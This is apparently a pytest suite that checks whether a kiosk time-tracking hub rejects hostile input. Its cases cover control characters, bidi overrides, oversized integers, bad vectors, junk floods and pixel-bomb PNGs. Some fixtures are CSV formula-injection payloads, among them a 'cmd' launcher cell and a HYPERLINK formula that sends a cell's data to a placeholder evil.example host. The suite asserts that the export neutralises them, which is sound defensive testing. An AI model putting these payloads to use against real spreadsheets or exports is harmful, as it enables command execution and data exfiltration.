"""Bad input at the hub, on SQLite and PostgreSQL: every text, integer, vector and photo that enters is
refused with a named 4xx (or, inside a batch, its own verdict) — never a 500 or a blocked batch."""

from __future__ import annotations

import base64
import csv
import io
import json

import httpx
import numpy as np
import pytest
from sync_support import CONSENT, TEST_MODEL
from test_hub_api import register, upload, vector
from test_input_rules import png
from test_sync_protocol import chain

from kiosk.base.text import DB_INT_MAX
from sync.hub.ingest import REJECT_BODY_MAX_CHARS, REJECTS_KEPT_PER_DEVICE
from sync.protocol import encode_vector

NUL, RLO = "\x00", "\u202e"


def error_text(resp: httpx.Response) -> str:
    body = resp.json()["error"]
    return " ".join([body["message"], *(" ".join(map(str, d["loc"])) + " " + d["msg"] for d in body["details"])])


def enrolment(ident: int, employee_id: str = "E9", name: str = "Nine", vec: list[float] | None = None) -> dict:
    return {"enrolment_id": ident, "employee_id": employee_id, "name": name, "cards": [],
            "created_utc": "2026-01-05T08:00:00.000Z", "consent": CONSENT, "consent_path": "kiosk_guided",
            "templates": [{"model_id": TEST_MODEL, "dim": 512, "vector_b64": encode_vector(vec or vector(ident))}]}


def test_control_characters_in_a_batch_get_their_own_verdict_and_the_rest_is_stored(hub) -> None:
    device = register(hub)
    good = chain(2)
    bad = [chain(1, start_seq=3, prev=good[-1]["hash"], note=f"forgot{NUL}card")[0],
           chain(1, start_seq=3, prev=good[-1]["hash"], flags=f"x{RLO}")[0],
           chain(1, start_seq=3, prev=good[-1]["hash"], mono_ns=2**70)[0],
           {"id": f"junk{NUL}", "seq": 2**70, f"odd{NUL}key": 1}]
    answer = upload(device, [good[0], *bad, good[1]])
    statuses = [r["status"] for r in answer["results"]]
    assert statuses == ["accepted", "rejected", "rejected", "rejected", "rejected", "accepted"]
    reasons = [r["reason"] for r in answer["results"][1:5]]
    assert "note" in reasons[0] and "control character U+0000" in reasons[0]
    assert "flags" in reasons[1] and "bidirectional override U+202E" in reasons[1]
    assert "mono_ns" in reasons[2]
    assert [p["seq"] for p in hub.export()] == [1, 2]
    with hub.db.transaction(write=False) as tx:
        kept = tx.rows("SELECT punch_id, seq, body FROM punch_rejects ORDER BY id")
    assert len(kept) == 4 and kept[3]["punch_id"] == "junk\\x00" and kept[3]["seq"] is None
    assert all(NUL not in row["body"] for row in kept)
    # The same record again is refused the same way: the kiosk's sync goes on with its next records.
    again = upload(device, [bad[0], chain(1, start_seq=3, prev=good[-1]["hash"])[0]])
    assert [r["status"] for r in again["results"]] == ["rejected", "accepted"]


def test_lone_surrogates_are_refused_not_a_database_error(hub) -> None:
    device = register(hub)
    record = {**chain(1)[0], "note": "\ud800"}  # its hash no longer matters: the note is refused first
    raw = json.dumps({"punches": [record]}).encode()  # json escapes it; the hub decodes a lone surrogate
    resp = device.post("/v1/device/punches", content=raw, headers={"content-type": "application/json"})
    assert resp.status_code == 200 and resp.json()["results"][0]["status"] == "rejected"
    assert resp.json()["results"][0]["reason"].startswith("note")


@pytest.mark.parametrize("path", [f"/v1/hr/employees/E{NUL}1", f"/v1/hr/employees/E{RLO}1/kiosks",
                                  f"/v1/hr/devices/D{NUL}"])
def test_path_parameters_with_control_characters_are_named_4xx(hub, path: str) -> None:
    resp = hub.hr.get(path.replace(NUL, "%00").replace(RLO, "%E2%80%AE"))
    assert resp.status_code == 422, resp.text
    assert "path parameter" in error_text(resp)


@pytest.mark.parametrize("params", [{"branch": f"B{NUL}"}, {"employee_id": f"E{RLO}1"}, {"flag": "\x1b[31m"}])
def test_query_parameters_with_control_characters_are_named_4xx(hub, params: dict) -> None:
    for route in ("/v1/hr/punches", "/v1/hr/export"):
        resp = hub.hr.get(route, params=params)
        assert resp.status_code == 422, resp.text
        assert f"query parameter {next(iter(params))}" in error_text(resp)
    assert hub.hr.get("/v1/hr/employees", params={"q": f"a{NUL}"}).status_code == 422


def test_every_name_and_reason_goes_through_one_rule(hub) -> None:
    register(hub)
    base = {"employee_id": "E1", "name": "Wang Li", "branches": ["B001"]}
    for name in ("x\ny", f"ad{RLO}nimda", f"A{NUL}", "\u2066E2\u2069"):
        created = hub.hr.post("/v1/hr/employees", json={**base, "name": name})
        assert created.status_code == 422 and "name" in error_text(created), name
    assert hub.hr.post("/v1/hr/employees", json=base).status_code == 201
    for name in ("x\ny", f"a{RLO}b", "  ", "n" * 101):
        patched = hub.hr.patch("/v1/hr/employees/E1", json={"name": name})
        assert patched.status_code == 422 and "name" in error_text(patched), name
    assert hub.hr.patch("/v1/hr/employees/E1", json={"name": "  Wang  Li "}).json()["name"] == "Wang  Li"
    reason = hub.hr.post("/v1/hr/employees/E1/terminate", json={"reason": f"left{NUL}"})
    assert reason.status_code == 422 and "reason" in error_text(reason)
    fix = hub.hr.post("/v1/hr/corrections", json={"employee_id": "E1", "local_time": "2026-01-05T09:00",
                                                  "reason": f"reader{NUL}broken"})
    assert fix.status_code == 422 and "reason" in error_text(fix)
    assert hub.hr.get("/v1/hr/employees/E1").json()["name"] == "Wang  Li"
    code = hub.code("B001")
    named = httpx.post(f"{hub.url}/v1/device/register", json={"code": code, "device_name": f"k{NUL}",
                                                              "software_version": "1"}, timeout=30)
    assert named.status_code == 422 and "device_name" in error_text(named)


def test_a_bad_enrolment_gets_its_own_verdict_and_its_neighbours_are_stored(hub) -> None:
    device = register(hub)
    batch = [enrolment(1, "E1", "x\ny"), enrolment(2, "E2", f"a{RLO}b"), enrolment(3, "E3", vec=[0.0] * 512),
             enrolment(2**70, "E4"), enrolment(5, "E5", "Five")]
    resp = device.post("/v1/device/enrolments", json={"enrolments": batch})
    assert resp.status_code == 200, resp.text
    results = resp.json()["results"]
    assert [r["status"] for r in results] == ["rejected"] * 4 + ["stored"]
    assert "name" in results[0]["reason"] and "U+202E" in results[1]["reason"]
    assert "zeros" in results[2]["reason"]
    assert results[3]["enrolment_id"] == 0 and "enrolment_id" in results[3]["reason"]
    assert hub.hr.get("/v1/hr/employees/E5").json()["name"] == "Five"
    assert hub.hr.get("/v1/hr/employees/E1").status_code == 404


@pytest.mark.parametrize("request_args", [
    ("get", "/v1/device/roster", {"params": {"cursor": str(10**23)}}),
    ("get", "/v1/device/roster", {"params": {"cursor": "1e23"}}),
    ("post", "/v1/device/heartbeat", {"json": {"software_version": "1", "backlog": 2**64, "clock_state": "verified"}}),
    ("post", "/v1/device/heartbeat", {"json": {"software_version": "1", "backlog": 0, "clock_state": "verified",
                                               "clock_anchors": [{"boot_id": "b", "mono_ns": 2**70, "source": "ntp",
                                                                  "utc": "2026-01-05T08:00:00.000Z"}]}}),
])
def test_device_integers_beyond_the_database_are_4xx(hub, request_args: tuple) -> None:
    device = register(hub)
    method, path, kwargs = request_args
    resp = getattr(device, method)(path, **kwargs)
    assert resp.status_code == 422, resp.text


@pytest.mark.parametrize("params", [{"since": str(10**23)}, {"since": "1e23"}, {"limit": str(2**64)}])
def test_hr_integers_beyond_the_database_are_4xx(hub, params: dict) -> None:
    assert hub.hr.get("/v1/hr/punches", params=params).status_code == 422
    assert hub.hr.get("/v1/hr/employees", params={"offset": str(2**63)}).status_code == 422


def test_every_integer_the_api_takes_is_bounded_to_what_the_databases_hold(hub) -> None:
    spec = hub.hr.get("/v1/openapi.json").json()
    schemas = spec["components"]["schemas"]
    unbounded = []

    def walk(schema: dict, where: str, seen: set) -> None:
        if "$ref" in schema:
            name = schema["$ref"].rsplit("/", 1)[-1]
            if name not in seen:
                walk(schemas[name], name, seen | {name})
            return
        # (the published document may write 2**63-1 as a float: 9.223372036854776e18)
        if schema.get("type") == "integer" and not schema.get("maximum", 2.0**64) <= float(DB_INT_MAX):
            unbounded.append(where)
        for key in ("anyOf", "allOf", "oneOf"):
            for part in schema.get(key, []):
                walk(part, where, seen)
        for name, prop in schema.get("properties", {}).items():
            walk(prop, f"{where}.{name}", seen)
        for key in ("items", "additionalProperties"):
            if isinstance(schema.get(key), dict):
                walk(schema[key], f"{where}[]", seen)

    for path, methods in spec["paths"].items():
        for method, op in methods.items():
            for param in op.get("parameters", []):
                walk(param["schema"], f"{method} {path} ?{param['name']}", set())
            for content in op.get("requestBody", {}).get("content", {}).values():
                walk(content["schema"], f"{method} {path} body", set())
    assert unbounded == []


def test_template_vectors_must_be_finite_and_normalisable(hub) -> None:
    register(hub)
    base = {"employee_id": "E1", "name": "A", "branches": ["B001"], "consent": CONSENT}
    for values in ([1e308] * 512, [0.0] * 512, [4e38] + [0.0] * 511, [float("nan")] + [0.1] * 511):
        raw = json.dumps({**base, "templates": [{"model_id": TEST_MODEL, "vector": values}]}).encode()
        resp = hub.hr.post("/v1/hr/employees", content=raw, headers={"content-type": "application/json"})
        assert resp.status_code in (400, 422), resp.text
    tiny = hub.hr.post("/v1/hr/employees", json={**base, "templates": [{"model_id": TEST_MODEL,
                                                                         "vector": [1e-30] * 512}]})
    assert tiny.status_code == 422
    ok = hub.hr.post("/v1/hr/employees", json={**base, "templates": [{"model_id": TEST_MODEL,
                                                                       "vector": [1e30] * 512}]})
    assert ok.status_code == 201, ok.text
    with hub.db.transaction(write=False) as tx:
        stored = [np.frombuffer(bytes(r["vector"]), "<f4") for r in tx.rows("SELECT vector FROM templates")]
    assert len(stored) == 1 and np.all(np.isfinite(stored[0])) and abs(np.linalg.norm(stored[0]) - 1) < 1e-5


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hub) -> None:
    device = register(hub)
    assert hub.hr.post("/v1/hr/employees", json={"employee_id": "E1", "name": "=cmd|' /C calc'!A0",
                                                 "branches": ["B001"]}).status_code == 201
    notes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "plain"]
    records = []
    for note in notes:
        records += chain(1, start_seq=len(records) + 1, prev=records[-1]["hash"] if records else "0" * 64,
                         note=note)
    upload(device, records)
    payroll = hub.hr.get("/v1/hr/export", params={"format": "csv"}).text.lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(payroll)))
    assert [r["note"] for r in rows] == ["'" + n for n in notes[:-1]] + ["plain"]
    assert {r["name"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    feed = hub.hr.get("/v1/hr/punches", headers={"accept": "text/csv"}).text
    assert [r["note"] for r in csv.DictReader(io.StringIO(feed))][0].startswith("'=HYPERLINK")
    as_json = [json.loads(line) for line in hub.hr.get("/v1/hr/punches").text.splitlines()]
    assert as_json[0]["note"] == notes[0], "JSON keeps the value as sent"


def test_a_device_sending_junk_cannot_fill_the_hubs_disk(hub) -> None:
    device = register(hub)
    junk_per_batch = 150
    for batch in range(3):
        junk = [{"id": f"junk-{batch}-{i}", "seq": i, "note": "J" * 10_000} for i in range(junk_per_batch)]
        good = chain(1, start_seq=batch + 1, prev=hub.export()[-1]["hash"] if batch else "0" * 64)
        answer = upload(device, [*junk, *good])
        assert answer["accepted"] == 1 and answer["rejected"] == junk_per_batch
    with hub.db.transaction(write=False) as tx:
        kept = tx.rows("SELECT punch_id, body FROM punch_rejects ORDER BY id")
        counted = tx.row("SELECT rejected FROM devices")["rejected"]
    assert len(kept) == REJECTS_KEPT_PER_DEVICE and counted == 3 * junk_per_batch
    assert kept[-1]["punch_id"] == f"junk-2-{junk_per_batch - 1}", "the newest are kept"
    assert max(len(r["body"]) for r in kept) <= REJECT_BODY_MAX_CHARS
    assert len(hub.export()) == 3


# -- photos ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pixel_bombs() -> dict[str, bytes]:
    return {"400mp_bad_crc": png(20_000, 20_000, bad_ancillary_crc=True), "225mp": png(15_000, 15_000)}


def test_pixel_bombs_are_refused_from_their_header_with_a_clear_422(hub, pixel_bombs: dict[str, bytes]) -> None:
    register(hub)
    assert len(pixel_bombs["400mp_bad_crc"]) < 600_000
    base = {"employee_id": "E1", "name": "A", "branches": ["B001"]}
    for name, data in pixel_bombs.items():
        photo = base64.b64encode(data).decode()
        resp = hub.hr.post("/v1/hr/employees", json={**base, "photos": [photo]})
        assert resp.status_code == 422, (name, resp.text)
        message = resp.json()["error"]["message"]
        assert "photos[0]" in message and "MP" in message and "at most 40 MP" in message, message
        patch = hub.hr.patch("/v1/hr/employees/E1", json={"photos": [photo]})
        assert patch.status_code in (404, 422)
    assert hub.hr.get("/v1/hr/employees/E1").status_code == 404
